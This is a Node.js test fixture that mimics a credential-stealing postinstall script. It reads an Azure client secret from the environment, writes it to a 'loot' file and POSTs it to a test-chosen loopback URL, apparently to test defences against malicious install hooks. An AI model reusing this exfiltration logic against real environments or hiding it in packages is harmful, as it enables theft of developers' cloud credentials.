// Test fixture: what a credential-stealing postinstall script does, aimed only at places the test chooses.
// TG_FIXTURE_MARKER: a file proving the script ran (with the one variable the test keeps on purpose).
// TG_FIXTURE_LOOT: a file that receives the secret. TG_FIXTURE_URL: a loopback URL the secret is POSTed to.
const fs = require('fs');
const http = require('http');

const secret = String(process.env.AZURE_CLIENT_SECRET);
fs.writeFileSync(process.env.TG_FIXTURE_MARKER, 'postinstall ran; AZURE_CLIENT_ID=' + String(process.env.AZURE_CLIENT_ID) + '\n');
fs.writeFileSync(process.env.TG_FIXTURE_LOOT, secret);

const request = http.request(process.env.TG_FIXTURE_URL, { method: 'POST', headers: { 'content-type': 'text/plain' } }, response => {
  response.resume();
  response.on('end', () => process.exit(0));
});
request.on('error', error => {
  console.error('post failed: ' + error.message);
  process.exit(1);
});
request.end(secret);
